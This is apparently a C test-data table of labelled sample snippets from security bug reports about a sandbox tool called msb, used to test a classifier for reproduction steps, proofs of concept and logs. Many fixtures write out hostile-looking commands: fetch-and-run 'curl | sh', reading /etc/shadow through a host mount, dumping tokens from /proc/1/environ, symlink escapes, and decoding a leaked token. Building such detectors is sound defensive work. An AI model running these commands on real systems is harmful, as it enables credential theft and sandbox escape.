	{ PROSE "Steps:\n\n  ~/.local/bin/msb --version\n  msb run -v /:/h alpine -- ls /h\n", 1, 1, 0 },
	{ PROSE "I ran:\n\n  chmod +x /tmp/q/run\n  /tmp/q/run\n  /tmp/q/run: 3: cannot create /etc/x: Permission denied\n"
	  "  /usr/bin/ld: cannot find -lfoo\n  /var/lib/x/y.db: SQLite 3.x database\n", 1, 1, 1 },
	/* issue #3: what happened once, told with the commands run in passing,
	 * and the writer cannot make it happen again or does not know how:
	 * no reproduction, in any language; real steps stay one, even when the
	 * writer is unsure or it failed on another host */
	{ PROSE "I only ran the usual installer:\n\n    curl -fsSL https://get.example/i.sh | sh\n\n"
	  "Since then I could not make it happen again.\n", 1, 0, -1 },
	{ PROSE "What I saw in the new sandbox:\n\n    user@lab-3:~$ ls -la /home\n    drwx------ 2 ana ana 4096 Mar  3 08:10 ana\n\n"
	  "I restored it six times later, but it never happened again.\n", 1, 0, -1 },
	{ PROSE "Запустив:\n\n    curl -fsSL https://get.example/i.sh | sh\n\nЯк це повторити, я не знаю.\n", 1, 0, -1 },
	{ PROSE "Я запускал:\n\n    $ msb run -v /srv:/data alpine -- ls /data\n\nНе знаю, как это повторить.\n", 1, 0, -1 },
	{ PROSE "Rodei isto:\n\n    $ msb snapshot restore base --name t1\n\nN\xc3\xa3o sei como reproduzir isso.\n", 1, 0, -1 },
	{ PROSE "Ejecut\xc3\xa9:\n\n    $ msb run --network none alpine -- wget http://10.0.2.2/\n\nNo pude reproducirlo otra vez.\n", 1, 0, -1 },
	{ PROSE "Ich hatte nur das gestartet:\n\n    $ msb run alpine -- sh -c 'ls /mnt'\n\nIch konnte es nicht mehr reproduzieren.\n", 1, 0, -1 },
	{ PROSE "\xe0\xb8\x9c\xe0\xb8\xa1\xe0\xb8\xa3\xe0\xb8\xb1\xe0\xb8\x99:\n\n    $ msb snapshot restore base --name s2\n\n"
	  "\xe0\xb8\x97\xe0\xb8\xb3\xe0\xb8\x8b\xe0\xb9\x89\xe0\xb8\xb3\xe0\xb9\x84\xe0\xb8\xa1\xe0\xb9\x88\xe0\xb9\x84\xe0\xb8\x94\xe0\xb9\x89\n", 1, 0, -1 },
	{ PROSE "To reproduce:\n\n    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "It is flaky; I could not reproduce it again on my second laptop.\n", 1, 1, -1 },
	{ PROSE "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "I could not reproduce it on Fedora 41, only on Debian.\n", 1, 1, -1 },
	{ PROSE "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "About one run in five fails; I can't make it happen again reliably.\n", 1, 1, -1 },
	/* (round 245) a printed tree under a lead-in that names the command:
	 * its root and branches are output; a tree drawn in prose is none */
	{ PROSE "repro:\n$ msb run --rm registry.example/ansi -- true\n\n"
	  "cargo tree -i tracing-subscriber at v0.12.3:\ntracing-subscriber v0.3.19\n"
	  "\xe2\x94\x94\xe2\x94\x80\xe2\x94\x80 msbd v0.12.3 (/src/microsandbox/crates/msbd)\n", 1, 1, 1 },
	/* (round 245) a race seen in logs, "can't trigger it on demand yet",
	 * "no reliable repro yet" */
	{ PROSE "Seen this twice in CI, sending it even though I can't trigger it on demand yet.\n\n"
	  "Our runners do `msb exec job -e TOKEN=... -- ./deploy.sh` at the end of a job.\n\n"
	  "No reliable repro yet, it's a race; I'll try a loop tonight.\n", 1, 0, -1 },
	/* (3350) a service audit with the locale set before it and a quoted
	 * grep pattern after: its table is logs, no reproduction; (3359)
	 * `cargo install --list` shows what is installed */
	{ PROSE "$ LANG=C systemd-analyze security msbd.service | tail -n 6\n"
	  "- PrivateTmp=                        Service has access to other software's temporary files   0.2\n"
	  "-> Overall exposure level for msbd.service: 9.2 UNSAFE\n"
	  "$ LANG=C systemd-analyze security msb-netd.service | grep -E 'CapabilityBoundingSet=~CAP_SYS_ADMIN|Overall'\n"
	  "-> Overall exposure level for msb-netd.service: 9.6 UNSAFE\n", 1, 0, 1 },
	{ PROSE "$ cargo install --list | grep -A2 microsandbox\nmicrosandbox-cli v0.12.6:\n    msb\n", 1, 0, -1 },
	/* (3386) a line that is all a version query prints no log */
	{ PROSE "Version:\npip freeze | grep -i microsandbox\nmicrosandbox==0.12.6\n", 1, -1, 0 },
	/* (3384) the writer's words in parentheses under a command, saying
	 * what it prints, are no output */
	{ PROSE "Account A:\n    msb cloud share create share-test --read-only --expires 1h\n"
	  "    (prints the viewer link https://app.example/s/shr_... and the stream URL)\n", 1, 1, 0 },
	/* (3368) a show's name in the sign-off is no output heading over the
	 * link below it; "See output below" over a block is one */
	{ PROSE "    $ msb run alpine -- id\n\nCheers,\nTom Reyes\nStack Traces After Dark\nhttps://stacktraces.example\n",
	  1, 1, 0 },
	/* (3380) no reproduction yet, in Dutch: the configuration shown is
	 * no reproduction; in English, "no minimal repro yet" */
	{ PROSE "Sandboxes krijgen alleen de hosts die een klant nodig heeft:\n\n"
	  "   msb run --net-default deny \\\n     --net-allow-host db.intern.example:5432 ...\n\n"
	  "Een minimale reproductie heb ik nog niet. Ik heb het een keer geprobeerd,\n"
	  "maar kreeg het niet meteen terug.\n", 1, 0, -1 },
	{ PROSE "We run sandboxes like this:\n\n    msb run --net-default deny --net-allow-host db.example:5432 app\n\n"
	  "No minimal repro yet; I'll try to write a script this week.\n", 1, 0, -1 },
	/* (3355) a Japanese sentence that starts with a command is prose: no
	 * command, so the next line is no output */
	{ PROSE "msb run --secret NAME=VALUE \u3067\u6e21\u3057\u305f\u5024\u306f\u3001\n"
	  "\uff08\u30db\u30b9\u30c8\u5074\u306e\u4ed6\u306e\u30e6\u30fc\u30b6\u30fc\u306b\u306f\u898b\u3048\u306a\u3044\uff09\n",
	  1, 0, 0 },
	/* (3335) the same in Czech: the commands that look at the result are
	 * no reproduction */
	{ PROSE "Vyvolat to na po\u017e\u00e1d\u00e1n\u00ed neum\u00edme. Co m\u00e1me ze 7. 12.:\n\n"
	  "$ msb exec ci-b-5521 -- ls -la /workspace\n-rw-r--r-- 1 root root  311 Dec  7 10:40 .env\n", 1, 0, -1 },
	/* (round 243) a program run with an option and piped into a filter,
	 * unprompted and outside a block, is a command: its output follows */
	{ PROSE "msb snapshot export team/base:nov -o base.msbsnap\ntar -tf base.msbsnap | grep aws\n"
	  "rootfs/root/.aws/\nrootfs/root/.aws/credentials\n", 1, 1, 1 },
	{ PROSE "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "I am not sure this is the cause, but it happens every time for me.\n", 1, 1, -1 },
	/* the reproduction put in an attachment the mail does not have (1593):
	 * the commands that look at the result are its output, in any
	 * language; a heading of the writer's over commands of his own, or
	 * "attached" said of a log, keeps them a reproduction */
	{ PROSE "The full reproduction is in the attached script. Afterwards, on the host:\n\n"
	  "    $ ls -l /var/tmp/owned\n    -rw-r--r-- 1 root root 12 Jan  3 10:00 /var/tmp/owned\n", 1, 0, 1 },
	{ PROSE "Das Skript liegt im Anhang. Danach auf dem Host:\n\n"
	  "    $ cat /var/tmp/beweis\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 0, 1 },
	{ PROSE "Pour reproduire, voir le script ci-joint. Ensuite, sur l'h\xc3\xb4te :\n\n"
	  "    $ cat /var/tmp/preuve\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 0, 1 },
	{ PROSE "My exploit script is attached.\n\nSteps to reproduce by hand:\n\n"
	  "    $ msb run -v /:/h alpine -- cat /h/etc/shadow\n", 1, 1, -1 },
	{ PROSE "See the attached log for everything msbd printed.\n\n"
	  "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n", 1, 1, -1 },
	/* round 36: the script kept until we answer, the promise wrapped over
	 * two lines (subject on one, verb on the next); a denial wrapped the
	 * same way; logs promised that way take no PoC away */
	{ PROSE "    $ ls -la /run/msb/build/\n    drwxrwxrwx 2 alice alice 120 Nov 27 10:02 .\n\n"
	  "I have a small script that sets up both users and shows it end to end; I\n"
	  "will send it once you confirm you got this mail.\n", 1, 0, -1 },
	{ PROSE "I'll share the PoC after you acknowledge the report.\n\n    $ msb run alpine -- sh /x.sh\n", 1, 0, -1 },
	{ PROSE "I have\nnot written a PoC. The check looks like this:\n\n```rust\n"
	  "let len = u32::from_be_bytes(hdr) as usize;\nlet body = len - FRAME_HEADER_SIZE;\nlet buf = vec![0u8; body];\n```\n", 1, 0, 0 },
	{ PROSE "    $ msb run alpine -- sh /x.sh\n\nI will send the full debug logs once\nyou confirm.\n", 1, 1, 0 },
	/* (1730) the exploit kept off the mail for a safe channel or until
	 * asked for: a promise; a log sent that way, an exploit that
	 * arrives by mail in the attack, take no PoC away */
	{ PROSE "    $ sudo -n true\n\nI would rather not send the exploit script by e-mail; give me\n"
	  "a PGP key first.\n", 1, 0, -1 },
	{ PROSE "    $ sudo -n true\n\nReply to this mail and I can send it over Signal.\n"
	  "I'll share the exploit through a secure channel.\n", 1, 0, -1 },
	{ PROSE "    $ msb run alpine -- sh /x.sh\n\nI don't want to send the logs by email, they hold hostnames.\n", 1, 1, -1 },
	{ PROSE "    $ msb run alpine -- sh /x.sh\n\nThe victim then opens the exploit sent by email.\n", 1, 1, -1 },
	/* (1748) the kernel's and the CPU's settings read back are evidence
	 * of a setting, no reproduction; a process's environ read from the
	 * guest still is one */
	{ PROSE "    / # cat /proc/cmdline\n    console=hvc0 quiet nosmt=off\n"
	  "    / # grep . /sys/devices/system/cpu/vulnerabilities/l1tf\n"
	  "    /sys/devices/system/cpu/vulnerabilities/l1tf:Vulnerable\n", 1, 0, -1 },
	{ PROSE "    $ cat /proc/sys/kernel/unprivileged_bpf_disabled\n    0\n", 1, 0, -1 },
	{ PROSE "    / # cat /proc/1/environ\n    MSB_TOKEN=abc123\n", 1, 1, -1 },
	{ PROSE "I have not tried to write an exploit.\n\n```c\nint x = a[i];\nint y = b[x];\n```\n", 1, 0, -1 },

	/* environment listings are neither a reproduction nor a log */
	{ PROSE "    $ apt policy microsandbox\n    microsandbox:\n      Installed: 0.8.4-1~noble\n"
	  "    $ fastfetch -l none\n    OS: Fedora Linux 41 (Workstation Edition) x86_64\n", 1, 0, 0 },
	/* (#3, 4975) Portage's own description of the machine */
	{ PROSE "  $ emerge --info | head -n 3\n  Portage 3.0.81 (python 3.13.11-final-0, "
	  "default/linux/amd64/23.0/desktop/systemd, gcc-15, glibc-2.42-r3, 7.17.9-gentoo-dist x86_64)\n"
	  "  =================================================================\n", 1, 0, 0 },
	/* (#3, 5090, 5126) dependency listings, git's -C before describe */
	{ PROSE "    $ git -C microsandbox describe --tags\n    v0.19.0\n    $ pipdeptree -r -p requests\n"
	  "    requests==2.31.0\n    \u2514\u2500\u2500 microsandbox==0.19.1 [requires: requests==2.31.0]\n", 1, 0, -1 },
	/* round 18: a web IDOR told in one sentence; a Windows dir listing and an
	 * ASCII histogram are output, a bare "id" is no tampering */
	{ PROSE "Log in, then change the org id in the address bar from your own to any\nother number.\n", 1, 1, 0 },
	{ PROSE "The org id is shown in the address bar of the dashboard.\n", 1, 0, 0 },
	{ PROSE " Directory of C:\\Users\\k\\Startup\n\n28/11/2026  10:14                10 pwn.bat\n"
	  "               1 File(s)             10 bytes\n", 1, -1, 1 },
	{ PROSE "  <200      |                  |##########  9114\n  200-400   |                  |###          702\n"
	  "  1600-3200 |##########  8821 |\n", 1, -1, 1 },
	{ PROSE "Thanks,\nAna\nhttps://gist.example/ana\n", 1, 0, 0 },
	{ PROSE "```sh\nmsb run --no-net alpine -- nslookup leak.example\n```\n", 1, 1, 0 },
	{ PROSE "~~~js\nimport { Sandbox } from \"microsandbox\";\nconst sb = await Sandbox.create(\"x\");\nawait sb.exec(\"id\");\n~~~\n", 1, 1, 0 },
	{ PROSE "    import socket\n    s = socket.socket()\n    s.connect((\"10.0.0.1\", 80))\n", 1, 1, 0 },
	{ PROSE "\tgcc -o x x.c && ./x /mnt/share\n", 1, 1, 0 },
	{ PROSE "PS C:\\Users\\kiosk> msb exec build -- sh -c \"id\"\n", 1, 1, 0 },
	/* (#3) PowerShell's prompt without the directory; a "PS>" in a
	 * sentence is no prompt */
	{ PROSE "PS> Invoke-RestMethod -Method Post -Uri http://127.0.0.1:7263/v1/run -Body $b\n", 1, 1, 0 },
	{ PROSE "The docs call it the PS> prompt, and it is printed after every command.\n", 1, 0, 0 },
	{ PROSE "Steps to reproduce:\n\n1. Create a sandbox with a writable mount.\n2. Rename the parent directory in the guest.\n"
	  "3. Create a symlink where the directory was.\n4. Write a file through the old path.\n", 1, 1, 0 },
	/* (#3) the steps' heading hard-wrapped over a two-line paragraph,
	 * its word on the first line; a two-line paragraph whose last
	 * sentence leads into advice, or a longer paragraph that only
	 * mentions steps on its first line, heads no reproduction */
	{ PROSE "Steps to check it (in a throwaway VM rather than on a laptop you\n"
	  "care about, since it leaves a package behind):\n\n  1. Create a sandbox with a writable mount.\n"
	  "  2. Rename the parent directory in the guest.\n  3. Write a file through the old path.\n", 1, 1, 0 },
	{ PROSE "Schritte zum Nachstellen (am besten in einer Wegwerf-VM, weil ein\n"
	  "Paket zurückbleibt):\n\n1. Eine Sandbox mit Volume anlegen.\n2. Das Verzeichnis umbenennen.\n"
	  "3. Durch den alten Pfad schreiben.\n", 1, 1, 0 },
	/* round 107 (1255, 1258): the writer's "what I did / what I tried"
	 * heading in other languages, ending in a colon over the list; the
	 * same words starting a sentence, or a list of what the writer needs,
	 * head no reproduction */
	{ PROSE "Lo que probamos:\n1. Crear un proyecto nuevo.\n2. Borrar la clave desde la consola.\n"
	  "3. Llamar a la API con la clave borrada.\n", 1, 1, 0 },
	{ PROSE "Yaptıklarım:\n1. Yeni bir sandbox açtım.\n2. Paylaşılan klasörü bağladım.\n"
	  "3. Başka bir kullanıcıyla dosyayı okudum.\n", 1, 1, 0 },
	{ PROSE "Ce que j'ai fait :\n1. Créer une équipe.\n2. Retirer un membre.\n"
	  "3. Ouvrir le lien avec son compte.\n", 1, 1, 0 },
	{ PROSE "Was wir gemacht haben:\n1. Ein Projekt anlegen.\n2. Den Token widerrufen.\n"
	  "3. Mit dem alten Token die API aufrufen.\n", 1, 1, 0 },
	/* (#3) German says it tried the steps with the participle first or
	 * last ("Nachgestellt habe ich das ...:", 1944), and a list under the
	 * writer's own trial stands though he left an aside untried; without
	 * such a heading the denial still wins, and "nicht" over the list is
	 * no trial */
	{ PROSE "Das Deploy-Skript hat dasselbe Muster, das habe ich nur gelesen und nicht getestet.\n\n"
	  "Getestet habe ich es nur auf einer eigenen Kopie:\n\n1. Das Repository in eine Test-Organisation kopiert.\n"
	  "2. Mit einem zweiten Konto geforkt.\n3. Einen Pull Request aus dem Fork geöffnet.\n", 1, 1, 0 },
	{ PROSE "Ich habe das in einer Wegwerf-VM wie folgt nachgestellt:\n\n1. Eine Sandbox angelegt.\n"
	  "2. Den Ordner umbenannt.\n3. Durch den alten Pfad geschrieben.\n", 1, 1, 0 },
	{ PROSE "I tried it myself:\n\n1. Fork the repository.\n2. Rename a branch to main.\n"
	  "3. Open the pull request.\n\nThe release job I have not tested.\n", 1, 1, 0 },
	{ PROSE "Ausprobiert habe ich das nicht:\n\n1. Das Repository kopieren.\n2. Einen Fork anlegen.\n"
	  "3. Einen Pull Request öffnen.\n", 1, 0, 0 },
	{ PROSE "Ich habe das nicht nachgestellt:\n\n1. Das Repository kopieren.\n2. Einen Fork anlegen.\n"
	  "3. Einen Pull Request öffnen.\n", 1, 0, 0 },
	{ PROSE "I have not tested this.\n\nSteps:\n\n1. Fork the repository.\n2. Rename a branch to main.\n"
	  "3. Open the pull request.\n", 1, 0, 0 },
	{ PROSE "Lo que hice fue escribiros enseguida, con estos datos\n1. Cuenta gratuita.\n"
	  "2. Región europea.\n3. Consola web.\n", 1, 0, 0 },
	{ PROSE "Lo que necesito:\n1. Una respuesta.\n2. Un número de CVE.\n3. Una fecha.\n", 1, 0, 0 },
	/* (#3) npm's own log lines are output, after a registry query too
	 * (whose output is otherwise no log), in npm 10's words and the older
	 * ones; "npm error" in the writer's sentences is none */
	{ PROSE "Nobody owns the name yet:\n\n    $ npm view acme-sandbox-win32-arm64\n    npm error code E404\n"
	  "    npm error 404 Not Found - GET https://registry.example/acme-sandbox-win32-arm64 - Not found\n", 1, -1, 1 },
	{ PROSE "The install on the runner stopped with:\n\nnpm ERR! code EACCES\nnpm ERR! syscall mkdir\n"
	  "npm ERR! path /usr/lib/node_modules/acme\n", 1, -1, 1 },
	{ PROSE "npm warn deprecated glob-lite@7.1.0: no longer supported\n"
	  "npm warn deprecated rimraf-lite@2.7.1: no longer supported\n", 1, -1, 1 },
	{ PROSE "npm error code E404 means nobody has published the name, and\n"
	  "npm error 404 lines are all you see when you ask for it.\n", 1, 0, 0 },
	{ PROSE "npm error messages are terse here and\nnpm warn lines say nothing about the missing package.\n", 1, 0, 0 },
	{ PROSE "Our CI runs untrusted build steps in these sandboxes. We would\n"
	  "like to pass on a few suggestions after reading the defaults:\n\n1. Drop root in the guest.\n"
	  "2. Pin the base images by digest.\n3. Scope the registry tokens per job.\n", 1, 0, 0 },
	{ PROSE "The build steps of our pipeline run in the sandbox, and we have\n"
	  "been reading the defaults for a while now with the whole team,\n"
	  "and would suggest these changes:\n\n1. Drop root in the guest.\n"
	  "2. Pin the base images by digest.\n3. Scope the registry tokens per job.\n", 1, 0, 0 },
	{ PROSE "Reproduction\n------------\n  1. Fork the repository.\n  2. Open a pull request that adds a preinstall script.\n"
	  "  3. Push a tag on the fork and watch the cache hit.\n", 1, 1, 0 },
	{ PROSE "import asyncio\nfrom microsandbox import Sandbox\nasync def main():\n    sb = await Sandbox.create(\"x\")\n", 1, 1, 0 },
	{ PROSE "```console\nuser@host:~$ msb exec t -- id\nuid=0(root) gid=0(root)\n```\n", 1, 1, 1 },
	/* round 26: a bounty platform's offer describes no issue, though it
	 * names what its researchers found elsewhere; a report that says the
	 * project runs no bounty program still describes one */
	{ "Our community of researchers has found sandbox escapes, privilege escalation and secret leakage\n"
	  "in container runtimes and microVM projects. For open-source isolation projects we offer a free\n"
	  "private pilot: triage, CVSS scoring and payouts you approve.\n", 0, 0, 0 },
	{ "I know you do not run a paid bug bounty program. The guest can write to host files through a\n"
	  "symlink in the volume, which is a sandbox escape: an attacker in the guest controls the host.\n", 1, -1, -1 },
	/* round 26: output on the line right after a command, unfenced */
	{ PROSE "$ msb run --name b alpine -- /data/fhopen 1835012\nopened handle ino=1835012 -> fd 3\n", 1, 1, 1 },
	{ PROSE "Étapes pour reproduire :\n\n1. Lancer une sandbox avec un volume.\n2. Créer un lien symbolique.\n3. Lire le fichier.\n", 1, 1, 0 },
	{ "Hi,\n\nThe server's /mcp endpoint has no authentication; anyone on the network can run commands as root on the host.\n\n"
	  "msb server start --dev\ncurl -s http://host:5555/mcp -d '{}'\n", 1, 1, 0 },
	/* (the prose line is no command; `ls -l` only shows the socket's
	 * mode: evidence, a log, and no reproduction, issue #3) */
	{ "msb exec lets any user on the box run stuff as root because the control socket is 0666.\n\n"
	  "  ls -l /run/msb/msb.sock\n  srwxrwxrwx 1 root root 0 Nov  3 10:00 /run/msb/msb.sock\n\nthx\n", 1, 0, 1 },
	{ PROSE "```yaml\nsandboxes:\n  evil:\n    image: alpine\n    volumes:\n      - /:/host\n```\n", 1, 1, 0 },
	/* a Sandboxfile given bare in the mail, its command a list (1430) */
	{ PROSE "Put this Sandboxfile in the cloned project:\n\nsandboxes:\n  web:\n    image: debian:12\n"
	  "    entrypoint: [\"--volume=/etc:/e\", \"cat\", \"/e/shadow\"]\n\nand start it.\n", 1, 1, 0 },
	/* (#3, 3680) a system summary's capitalised labels (fastfetch) are
	 * no config keys */
	{ PROSE "My environment (fastfetch):\n\n```\nOS: macOS Tahoe 26.2 arm64\nKernel: Darwin 25.2.0\n"
	  "Shell: zsh 5.9\nCPU: Apple M4 Pro (12) @ 4.51 GHz\nMemory: 18.21 GiB / 24.00 GiB (76%)\n```\n", 1, 0, -1 },
	/* ... one line of a unit file is no config given */
	{ PROSE "The unit file on the host says:\n\n    command: /usr/local/bin/msb server start\n", 1, 0, 0 },
	/* the updates and errata a package manager knows of say what is
	 * installed, like a listing: no reproduction (1419) */
	{ PROSE "[root@db1 ~]# yum -q check-update msb\nmsb.x86_64   0.10.2-1.el8   msb-stable\n"
	  "[root@db1 ~]# dnf updateinfo list --security msb\n[root@db1 ~]# cat /etc/almalinux-release\n"
	  "AlmaLinux release 8.10 (Cerulean Leopard)\n", 1, 0, -1 },
	{ PROSE "$ apt list --upgradable 2>/dev/null | grep msb\nmsb/stable 0.10.3 amd64 [upgradable from: 0.10.1]\n"
	  "$ cat /etc/debian_version\n12.7\n", 1, 0, -1 },
	/* ... while a file of /etc read from inside the guest reproduces */
	{ PROSE "[root@guest ~]# cat /etc/shadow\nroot:*:19000:0:99999:7:::\n", 1, 1, -1 },
	{ PROSE "To reproduce, run these on the host:\n\n1. Start one: `msb run --name a -v /tmp/x:/x alpine -- sleep 999`\n"
	  "2. Then `msb exec a -- ln -s / /x/root` and read through it.\n", 1, 1, 0 },
	{ PROSE "How to reproduce (the clean version,\nthe real one is messier):\n\n1. msb run --name a alpine -- sh -c 'echo x > /root/s'\n"
	  "2. msb snapshot create a --tag t\n3. look at the result\n", 1, 1, 0 },
	{ PROSE "<html><body><iframe src=\"https://target.example\"></iframe></body></html>\n", 1, 1, 0 },
	{ PROSE "Kroki:\n1. Uruchom: wscat -H 'X-Org: a' -c wss://api.example/v1/s\n2. Zobacz wynik.\n", 1, 1, 0 },
	/* (1845, 1847) steps headings in Greek and in Serbian, Croatian or
	 * Bosnian (Latin and Cyrillic), over numbered steps with no command;
	 * a list under another heading is no reproduction */
	{ PROSE "Βήματα αναπαραγωγής:\n1. Συνδεθείτε στην κονσόλα ως χρήστης Α.\n2. Ανοίξτε τη σελίδα του οργανισμού Β.\n"
	  "3. Η λίστα με τα sandboxes εμφανίζεται.\n", 1, 1, 0 },
	{ PROSE "Για αναπαραγωγή:\n1. Συνδεθείτε ως ο πρώτος χρήστης.\n2. Αλλάξτε τον αριθμό του οργανισμού.\n"
	  "3. Βλέπετε ξένα δεδομένα.\n", 1, 1, 0 },
	{ PROSE "Koraci:\n1. Prijavite se kao korisnik A.\n2. Otvorite stranicu organizacije B.\n3. Lista se pojavi.\n", 1, 1, 0 },
	{ PROSE "Kako reprodukovati:\n1. Prijavite se u konzolu.\n2. Promenite broj organizacije.\n3. Vidite tuđe podatke.\n", 1, 1, 0 },
	{ PROSE "Кораци:\n1. Пријавите се као корисник А.\n2. Отворите страницу организације Б.\n3. Листа се појави.\n", 1, 1, 0 },
	/* (2326) steps headings in Arabic, Hebrew and Persian; a list under
	 * another heading in those languages is no reproduction */
	{ PROSE "خطوات إعادة الإنتاج:\n1. سجّل الدخول كمستخدم أ.\n2. افتح صفحة المؤسسة ب.\n3. تظهر القائمة.\n", 1, 1, 0 },
	{ PROSE "שלבים לשחזור:\n1. התחברו כמשתמש א.\n2. פתחו את הדף של הארגון ב.\n3. הרשימה מופיעה.\n", 1, 1, 0 },
	{ PROSE "مراحل بازتولید:\n1. با کاربر الف وارد شوید.\n2. صفحه سازمان ب را باز کنید.\n3. فهرست نمایش داده می‌شود.\n", 1, 1, 0 },
	{ PROSE "اقتراحات للإصلاح:\n1. تحقق من المؤسسة.\n2. سجّل الوصول.\n3. أبلغ المستخدمين.\n", 1, 0, 0 },
	{ PROSE "הצעות לתיקון:\n1. בדקו את הארגון.\n2. תעדו את הגישה.\n3. עדכנו את המשתמשים.\n", 1, 0, 0 },
	{ PROSE "Šta sam uradio:\n1. Prijavio se kao korisnik A.\n2. Otvorio stranicu organizacije B.\n3. Video listu.\n", 1, 1, 0 },
	{ PROSE "Τι έκανα:\n1. Συνδέθηκα ως χρήστης Α.\n2. Άνοιξα τη σελίδα του Β.\n3. Είδα τη λίστα.\n", 1, 1, 0 },
	{ PROSE "Προτάσεις για τη διόρθωση:\n1. Ελέγξτε τον οργανισμό.\n2. Καταγράψτε την πρόσβαση.\n3. Ενημερώστε τους χρήστες.\n", 1, 0, 0 },
	{ PROSE "Predlozi za ispravku:\n1. Proverite organizaciju.\n2. Beležite pristup.\n3. Obavestite korisnike.\n", 1, 0, 0 },
	{ PROSE "Pokrenuo sam sve ovo na laptopu i nije bilo greške.\n", 1, 0, 0 },
	/* (1845) a sandbox made from a snapshot with msb restore, written on
	 * a line of its own in a paragraph; the subcommand named in prose is
	 * none */
	{ PROSE "Κάθε φορά:\nmsb restore gold --name c2 -- ls -la /tmp\nmsb rm c2\n\nΤα αρχεία του c1 είναι εκεί.\n", 1, 1, 0 },
	{ PROSE "msb restore keeps the overlay directory of the sandbox that was removed before.\n", 1, 0, 0 },
	/* (1847) a printed blob decoded with a pipe on a line of its own,
	 * inside a wrapped sentence; the decoder named in prose is none */
	{ PROSE "Za proveru kopirajte liniju pa\necho aGVsbG8tc2VjcmV0LXRva2Vu | base64 --decode\ni vidi se token.\n", 1, 1, 0 },
	{ PROSE "Then run\nprintf %s \"$LINE\" | openssl base64 -A -d\nand the secret is back.\n", 1, 1, 0 },
	{ PROSE "Vrednost je u base64 obliku, a base64 -d je odmah otkriva.\n", 1, 0, 0 },
	{ PROSE "Then pipe the logged value | base64 -d to read it back.\n", 1, 0, 0 },
	{ PROSE "Passos:\n1. Rode: curl -s https://api.example/v1/orgs/b\n2. Veja a resposta.\n", 1, 1, 0 },
	{ PROSE "grpcurl -plaintext -d '{}' 127.0.0.1:9000 agent.Exec/Run\n", 1, 1, 0 },
	/* not a PoC */
	{ PROSE "I have not written a PoC. The length check in codec.rs looks like this:\n\n```rust\n"
	  "let len = u32::from_be_bytes(hdr) as usize;\nlet body = len - FRAME_HEADER_SIZE;\nlet buf = vec![0u8; body];\n```\n", 1, 0, 0 },
	{ PROSE "A sandbox started with `msb run --no-net` still resolves names.\n", 1, 0, 0 },
	{ PROSE "msb 0.6.14, macOS Sonoma 14.7.1 on a MacBook Air (M1).\ncurl is installed too.\n", 1, 0, 0 },
	{ PROSE "I will send a PoC later, once you confirm receipt.\n", 1, 0, 0 },
	{ PROSE "No PoC yet, but the bug is in crates/protocol/lib/codec.rs.\n", 1, 0, 0 },
	/* 1512: "did not write a PoC" is "have not written a PoC" */
	{ PROSE "We didn't build a PoC yet. The check in vmm/src/mmio.rs:\n\n```rust\n"
	  "if off + len > self.size { return Err(E::Range); }\nlet src = &self.mem[off..];\nself.copy(dst, src);\n```\n", 1, 0, 0 },
	{ PROSE "I did not write an exploit; the handler is:\n\n```c\nint n = read(fd, buf, hdr.len);\n"
	  "memcpy(out, buf, n);\nreturn n;\n```\n", 1, 0, 0 },
	{ PROSE "Environment:\n\n  $ uname -r\n  6.8.0-48-generic\n  $ msb --version\n  msb 0.6.14\n", 1, 0, 0 },
	{ PROSE "Suggestions:\n\n1. Make the restricted profile the default.\n2. Deny egress by default.\n3. Sign the releases.\n", 1, 0, 0 },
	{ PROSE "# Mount namespace escape\n\nDetails follow in a later mail.\n", 1, 0, 0 },
	{ PROSE "then start it with -v and -x set, and note: nothing else changes.\n", 1, 0, 0 },
	{ PROSE "1. Note: the flag is ignored.\n2. Also: it still works.\n", 1, 0, 0 },
	/* logs in many styles */
	{ PROSE "Traceback (most recent call last):\n  File \"x.py\", line 3, in <module>\nValueError: boom\n", 1, -1, 1 },
	{ PROSE "thread 'main' panicked at src/vmm.rs:120:9:\nindex out of bounds\n", 1, -1, 1 },
	{ PROSE "[ 1234.567890] BUG: unable to handle page fault for address: ffff\n", 1, -1, 1 },
	{ PROSE "  $ msb exec t1 -- cat /etc/shadow\n  root:*:19874:0:99999:7:::\n", 1, 1, 1 },
	{ PROSE "==4242==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602\n", 1, -1, 1 },
	{ PROSE "Gateway log:\n\n  2026-10-21T09:14:03Z DEBUG policy: verdict=allow\n  2026-10-21T09:14:04Z DEBUG policy: verdict=allow\n", 1, -1, 1 },
	{ PROSE "Output:\n\n  [+] leaked 4096 bytes\n  [*] done\n", 1, -1, 1 },
	/* (#3) a bug template's "Actual behavior" over a block is output;
	 * prose under it, or a block under "Expected behavior", is not */
	{ PROSE "### Actual behavior\n\n```\nexit=137 rss_kb=2097152 oom_kill=1\n```\n", 1, -1, 1 },
	{ PROSE "**Observed behaviour:**\n\n    uid=0 gid=0 groups=0 cap_eff=0x1ff\n", 1, -1, 1 },
	{ PROSE "### Actual behavior\n\nThe sandbox keeps running and nothing shows up at all.\n", 1, -1, 0 },
	{ PROSE "### Expected behavior\n\n```\nexit=1 rss_kb=65536 oom_kill=0\n```\n", 1, -1, 0 },
	/* (#3) Prometheus samples pasted from /metrics are output; a PromQL
	 * expression someone wrote is not */
	{ PROSE "From /metrics:\n\nmsb_vm_up{sandbox=\"b7\"} 1\n"
	  "msb_vm_rss_bytes{sandbox=\"b7\",kind=\"anon\"} 3.1e+09\n", 1, -1, 1 },
	{ PROSE "The rule we use:\n\nrate(msb_vm_rss_bytes{job=\"a\"}[5m]) > 1e9\n"
	  "sum by (host) (msb_vm_up{job=\"a\"}) < 3\n", 1, -1, 0 },
	{ PROSE "Actual output:   ghp_TEST-dummy-token\n", 1, -1, 1 },
	{ PROSE "strace output:\n\n    openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY) = 3\n    read(3, \"root\", 4096) = 4\n", 1, -1, 1 },
	{ PROSE "Oct 28 11:02:15 host msb[22]: DEBUG virtiofs: CREATE mode=0o104755\nOct 28 11:02:16 host msb[22]: INFO exited\n", 1, -1, 1 },
	/* issue #3: output with none of the usual markers.  Commands written
	 * without a prompt, what they printed indented right under them, is
	 * output; not a here-document a command feeds, nor a sentence
	 * indented under a command */
